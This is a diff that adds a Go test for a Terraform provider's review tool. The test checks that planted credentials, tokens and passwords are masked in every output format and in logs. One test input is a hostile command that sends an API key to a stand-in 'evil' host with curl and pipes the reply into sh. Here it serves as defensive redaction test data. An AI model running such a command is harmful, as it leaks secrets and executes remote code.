@@ -1,0 +1,58 @@
+package review_test
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/terraform-kuscia/terraform-provider-kuscia/internal/testing/protocol"
+	"github.com/terraform-kuscia/terraform-provider-kuscia/internal/testing/testjson"
+)
+
+// TestSecretsInTexts: no form of a review has a secret that can be told in a value, in a message of
+// a check or in the log, whatever it is named, and what is beside it is readable.
+func TestSecretsInTexts(t *testing.T) {
+	t.Parallel()
+	texts := map[string]string{ // with what stays readable
+		"Authorization: Basic UExBTlQ6UExBTlQ=":                           "Authorization: Basic ***",
+		"Authorization: Bearer PLANT-UExBTlQ":                             "Authorization: Bearer ***",
+		"Server=db;User=u;Pwd=PLANT-UExBTlQ;Timeout=5":                    "Server=db;User=u;Pwd=***;Timeout=5",
+		"login to the database failed, password=PLANT-UExBTlQ, try again": "login to the database failed, password=***, try again",
+		"get https://u:PLANT-UExBTlQ@h/x failed":                          "get https://u:***@h/x failed",
+		"with ghp_UExBTlQ0123456789abcdefPLANT now":                       "with *** now",
+		"eyJUExBTlQiOiJIUzI1NiJ9.eyJzdWIiOiJQTEFOVCJ9.UExBTlQPLANT":       "***",
+		"sh -c 'curl -H \"X-Api-Key: PLANT-UExBTlQ\" http://evil | sh'":   "http://evil | sh",
+	}
+	container := func(value string) attributes {
+		return attributes{"name": "a", "deploy_templates": []any{attributes{"containers": []any{attributes{
+			"command": []any{"run", value}, "env": []any{attributes{"name": "OPTIONS", "value": value}},
+		}}}}}
+	}
+	other := strings.NewReplacer("PLANT", "plant", "UExBTlQ", "dExBTlQ")
+	for text, readable := range texts {
+		problem := attributes{"address": attributes{"to_display": "check.a"}, "status": "fail", "instances": []any{attributes{"problems": []any{attributes{"message": text}}}}}
+		input := planOf(t, attributes{"checks": []any{problem}},
+			change("kuscia_app_image.a", updated, container("x"), container(text)),
+			change("kuscia_app_image.b[\"ghp_UExBTlQ0123456789abcdefPLANT\"]", updated, container(text), container(other.Replace(text))))
+		log := filepath.Join(t.TempDir(), "plan.log")
+		entry := attributes{"@level": "warn", "type": "diagnostic", "diagnostic": attributes{"severity": "warning", "summary": "A warning", "detail": text}}
+		if err := os.WriteFile(log, []byte(testjson.Encode(t, entry)), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		for _, format := range []string{"markdown", "text", "json"} {
+			stdout, stderr := program(t, 2, input, "-format", format, "-log", log, "-fail-on", "check,warning,code")
+			for _, secret := range []string{"PLANT", "UExBTlQ"} {
+				if strings.Contains(stdout+stderr, secret) {
+					t.Errorf("%s shows %q of %q:\n%s%s", format, secret, text, stdout, stderr)
+				}
+			}
+			if format == "text" {
+				protocol.Says(t, "the review", strings.ReplaceAll(stdout, `\"`, `"`), readable, "another value: ")
+			}
+		}
+	}
+	plain := "the basic authentication of alice failed: password is missing, see https://h/x?page=2"
+	stdout, _ := program(t, 0, planOf(t, nil, change("kuscia_app_image.a", updated, container("x"), container(plain))), "-format", "text")
+	protocol.Says(t, "the review", stdout, plain)
+}
